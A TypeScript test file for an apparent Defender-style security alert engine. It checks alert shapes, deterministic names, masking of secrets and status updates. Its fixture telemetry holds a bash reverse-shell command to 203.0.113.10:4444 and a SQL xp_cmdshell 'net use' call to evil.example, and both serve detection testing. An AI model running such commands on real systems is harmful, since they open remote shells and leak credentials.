/**
 * Alert records: the Microsoft.Security/alerts wire shape (same properties as the shared example alert), ids at
 * resource-group and subscription level, the SecurityAlert row for continuous export (same columns as the shared
 * example row), deterministic names, and list / get / status updates through the store's documents.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  ALERT_STATUSES,
  getAlert,
  listAlerts,
  parseAlertStatus,
  systemAlertId,
  toArmAlert,
  toSecurityAlertRow,
  updateAlertStatus,
  type SecurityAlertRecord,
} from '../../src/protection/index.js';
import { SHARED_DATA } from '../shared-data.js';
import { APIM, MIN, SQL, SUB, T0, TOR_IP, VAULT, VM, api, kv, openEngine, proc, sql, tempStore, type TempStore } from './helpers.js';

const example = JSON.parse(readFileSync(join(SHARED_DATA, 'telemetry', 'samples', 'alert-output-example.json'), 'utf8'));

let temp: TempStore;
let alerts: SecurityAlertRecord[];
beforeEach(async () => {
  temp = await tempStore();
  const engine = await openEngine(temp.store, { config: {} });
  engine.process(kv(VAULT, T0, 'SecretList', { ip: TOR_IP, upn: 'mallory@contoso.example' }));
  engine.process(kv(VAULT, T0 + 3000, 'SecretGet', { ip: TOR_IP, upn: 'mallory@contoso.example', object: 'db-password' }));
  engine.process(proc(VM, T0 + MIN, 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', '/usr/bin/bash'));
  await engine.close();
  alerts = await listAlerts(temp.store);
});
afterEach(async () => temp.dispose());

const tor = () => alerts.find((a) => a.properties.alertType === 'KV_TORAccess')!;

describe('the Microsoft.Security/alerts shape', () => {
  it('has the properties of the example alert, with the right values', () => {
    const arm = toArmAlert(tor());
    expect(Object.keys(arm).sort()).toEqual(Object.keys(example.alertResource).sort());
    expect(Object.keys(arm.properties).sort()).toEqual(Object.keys(example.alertResource.properties).sort());
    expect(arm.type).toBe('Microsoft.Security/Locations/alerts');
    expect(arm.id).toBe(`/subscriptions/${SUB}/resourceGroups/rg-sec/providers/Microsoft.Security/locations/centralus/alerts/${arm.name}`);
    expect(toArmAlert(tor(), { scope: 'subscription' }).id).toBe(`/subscriptions/${SUB}/providers/Microsoft.Security/locations/centralus/alerts/${arm.name}`);
    const p = arm.properties;
    expect(p).toMatchObject({
      version: '2022-01-01',
      alertType: 'KV_TORAccess',
      systemAlertId: arm.name,
      productComponentName: 'KeyVaults',
      alertDisplayName: 'Access from a TOR exit node to a key vault',
      severity: 'Medium',
      intent: 'CredentialAccess',
      startTimeUtc: new Date(T0).toISOString(),
      endTimeUtc: new Date(T0 + 3000).toISOString(),
      status: 'Active',
      compromisedEntity: 'contoso-kv',
      resourceIdentifiers: [{ type: 'AzureResource', azureResourceId: VAULT }],
      techniques: ['T1090', 'T1552'],
      subTechniques: ['T1090.003'],
      isIncident: false,
    });
    expect(p.description).toContain(TOR_IP);
    expect(p.remediationSteps.length).toBeGreaterThan(0);
    expect(p.extendedProperties).toMatchObject({ 'Client IP address': TOR_IP, Principal: 'mallory@contoso.example', Occurrences: '2' });
    expect(p.entities).toEqual(
      expect.arrayContaining([
        { $id: '2', type: 'ip', address: TOR_IP },
        expect.objectContaining({ type: 'account', name: 'mallory', upnSuffix: 'contoso.example' }),
      ]),
    );
    expect(p.entities.map((e) => e.$id)).toEqual(p.entities.map((_, i) => String(i + 1)));
  });

  it('names are Defender-shaped and deterministic', () => {
    expect(tor().name).toMatch(/^\d{19}_[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    // reverse ticks: a later start sorts first
    expect(systemAlertId(T0 + 1000, 'k') < systemAlertId(T0, 'k')).toBe(true);
    expect(systemAlertId(T0, 'k')).toBe(systemAlertId(T0, 'k'));
    expect(systemAlertId(T0, 'k')).not.toBe(systemAlertId(T0, 'other'));
  });
});

describe('secrets in telemetry', () => {
  it('never reach the alert: SAS signatures, API keys and passwords are masked', async () => {
    const other = await tempStore();
    const engine = await openEngine(other.store);
    const [change] = engine.process(
      api(APIM, T0, 'https://contoso.azure-api.net/orders/v1/orders/1?subscription-key=abc123&sig=s3cr3t', { ip: TOR_IP }),
    );
    const [sqlChange] = engine.process(sql(SQL, T0, 'BATCH_COMPLETED', { statement: "EXEC xp_cmdshell 'net use \\\\evil.example\\s /user:x password=Hunter2'; CREATE LOGIN y WITH PASSWORD = 'Hunter2'" }));
    await engine.close();
    await other.dispose();
    const text = JSON.stringify([change.alert, sqlChange.alert]);
    expect(text).not.toContain('abc123');
    expect(text).not.toContain('s3cr3t');
    expect(text).not.toContain('Hunter2');
    expect(text).toContain('subscription-key=***');
  });
});

describe('the SecurityAlert row', () => {
  it('has the columns of the example row, arrays and maps as JSON text', () => {
    const row = toSecurityAlertRow(tor(), { tenantId: 'tenant-1' });
    const expected = new Set([...Object.keys(example.securityAlertRow), 'TenantId']);
    expect(new Set(Object.keys(row))).toEqual(expected);
    expect(row).toMatchObject({
      Type: 'SecurityAlert',
      AlertType: 'KV_TORAccess',
      AlertSeverity: 'Medium',
      Status: 'New',
      Tactics: 'CredentialAccess',
      Techniques: 'T1090, T1552',
      ProductComponentName: 'KeyVaults',
      ResourceId: VAULT,
      StartTime: new Date(T0).toISOString().replace('.000Z', 'Z'),
      TenantId: 'tenant-1',
    });
    expect(JSON.parse(row.ExtendedProperties as string)['Client IP address']).toBe(TOR_IP);
    expect(JSON.parse(row.Entities as string)[0]).toEqual({ $id: '1', type: 'azure-resource', resourceId: VAULT });
    expect(JSON.parse(row.RemediationSteps as string)).toEqual(tor().properties.remediationSteps);
  });
});

describe('listing, getting and updating alerts', () => {
  it('lists newest first and filters by subscription, resource group, status, severity, type, plan, resource and time', async () => {
    expect(alerts.map((a) => a.properties.alertType)).toEqual(['VM_ReverseShell', 'KV_TORAccess']);
    expect((await listAlerts(temp.store, { subscriptionId: SUB.toUpperCase() })).length).toBe(alerts.length);
    expect(await listAlerts(temp.store, { subscriptionId: '00000000-0000-0000-0000-000000000000' })).toEqual([]);
    expect((await listAlerts(temp.store, { resourceGroup: 'RG-WEB' })).map((a) => a.properties.alertType)).toEqual(['VM_ReverseShell']);
    expect((await listAlerts(temp.store, { severity: 'Medium', plan: 'KeyVaults' })).map((a) => a.properties.alertType)).toEqual(['KV_TORAccess']);
    expect((await listAlerts(temp.store, { alertType: 'vm_reverseshell' })).length).toBe(1);
    expect((await listAlerts(temp.store, { resourceId: VAULT.toLowerCase() })).every((a) => a.plan === 'KeyVaults')).toBe(true);
    expect((await listAlerts(temp.store, { since: new Date(T0 + 30_000) })).map((a) => a.properties.alertType)).toEqual(['VM_ReverseShell']);
    expect((await listAlerts(temp.store, { until: new Date(T0 + 30_000) })).every((a) => a.plan === 'KeyVaults')).toBe(true);
    expect((await listAlerts(temp.store, { status: ['Resolved', 'Dismissed'] })).length).toBe(0);
  });

  it('updates the status with a history, and lists by status', async () => {
    const name = tor().name;
    const updated = await updateAlertStatus(temp.store, name, 'Resolved', { now: new Date('2026-03-03T00:00:00Z'), by: 'analyst@contoso.example' });
    expect(updated.properties.status).toBe('Resolved');
    expect(updated.statusHistory.at(-1)).toEqual({ status: 'Resolved', at: '2026-03-03T00:00:00.000Z', by: 'analyst@contoso.example' });
    expect((await getAlert(temp.store, name))!.properties.status).toBe('Resolved');
    expect((await listAlerts(temp.store, { status: 'Resolved' })).map((a) => a.name)).toEqual([name]);
    expect(toSecurityAlertRow((await getAlert(temp.store, name))!).Status).toBe('Resolved');
    await expect(updateAlertStatus(temp.store, 'missing', 'Dismissed')).rejects.toMatchObject({ code: 'AlertNotFound', kind: 'notFound' });
  });

  it('accepts the statuses and the az / ARM action names', () => {
    expect(ALERT_STATUSES.map(parseAlertStatus)).toEqual(ALERT_STATUSES);
    expect(['activate', 'dismiss', 'resolve', 'inProgress', 'InProgress'].map(parseAlertStatus)).toEqual(['Active', 'Dismissed', 'Resolved', 'InProgress', 'InProgress']);
    expect(() => parseAlertStatus('closed')).toThrow(expect.objectContaining({ code: 'InvalidAlertStatus', kind: 'argument' }));
  });
});
